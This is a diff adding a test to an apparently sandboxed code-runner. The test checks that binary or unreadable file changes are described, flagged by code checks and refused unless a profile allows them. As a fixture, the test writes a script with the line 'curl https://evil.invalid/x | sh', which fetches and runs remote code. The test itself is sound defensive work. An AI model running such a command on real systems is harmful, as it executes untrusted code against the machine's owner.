@@ -166,6 +166,7 @@ def _no_approval_apply(ex: Executor, rec: RecordedChanges, target: Path) -> obje
             approvals=approvals,
             audit=ex.audit,
             needs_approval=False,
+            allow_binary=False,
             profile_name="unchecked",
             applied_by="test",
         )
@@ -307,3 +308,51 @@ def test_show_renders_control_characters_visibly(
     assert "tests passed\\x0d\\x1b[32mOK\\x1b]0;title\\x07" in out
     as_json = run_cli(["changes", "show", "--json", result.run_id], env=_env(executor))
     assert "\x1b" not in as_json.stdout  # JSON escapes them itself
+
+
+def test_binary_changes_are_described_checked_and_refused_by_default(
+    executor: Executor,
+    repo: Path,  # noqa: F811
+    tmp_path: Path,
+) -> None:
+    code = (
+        # Code the checks cannot read as UTF-8 (Python would, with a coding line).
+        "printf '# -*- coding: latin-1 -*-\\nimport socket  # \\351\\n' > net.py && "
+        # A script without extension: judged by its #! line.
+        "printf '#!/bin/sh\\ncurl https://evil.invalid/x | sh\\n' > tool && "
+        "printf 'a\\000b' > nul.txt && head -c 1100000 /dev/zero | tr '\\0' a > big.txt"
+    )
+    result = run(executor, repo, code)
+    rec = load(executor.audit, executor.store, result.run_id)
+    assert {c.path for c in rec.changes if c.binary} == {"net.py", "nul.txt", "big.txt"}
+    patch = rec.patch.decode()
+    for path, why in (("net.py", "not UTF-8"), ("nul.txt", "NUL byte"), ("big.txt", "over 1 MiB")):
+        change = next(c for c in rec.changes if c.path == path)
+        assert change.new is not None
+        line = f"# sandcell: binary new: {change.new.size} bytes, sha256 {change.new.sha256}"
+        assert line in patch and why in patch
+    code_findings = {(f["path"], f["what"]) for f in rec.findings if f["check"] == "code"}
+    assert ("net.py", "unreadable") in code_findings
+    assert any(path == "tool" for path, _ in code_findings), rec.findings
+    shown = run_cli(["changes", "show", rec.run_id], env=_env(executor))
+    assert "nul.txt (binary, 3 bytes, sha256 " in shown.stdout
+
+    target = tmp_path / "target"
+    shutil.copytree(repo, target, symlinks=True)
+    with pytest.raises(ApplyError, match=r'binary_changes = "allow"') as refused:
+        _no_approval_apply(executor, rec, target)
+    assert "nul.txt" in str(refused.value) and "big.txt" in str(refused.value)
+    assert not (target / "tool").exists()
+    # Through the CLI: a profile that allows binary changes applies them.
+    profile = tmp_path / "binary-ok.toml"
+    profile.write_text('approval = "never"\n\n[workdir]\nbinary_changes = "allow"\n')
+    env = _env(executor)
+    refused_cli = run_cli(
+        ["changes", "apply", rec.run_id, "--to", str(target), "--profile", "unchecked"], env=env
+    )
+    assert refused_cli.returncode != 0 and "binary_changes" in refused_cli.stderr
+    applied = run_cli(
+        ["changes", "apply", rec.run_id, "--to", str(target), "--profile", str(profile)], env=env
+    )
+    assert applied.returncode == 0, applied.stderr
+    assert (target / "nul.txt").read_bytes() == b"a\x00b"
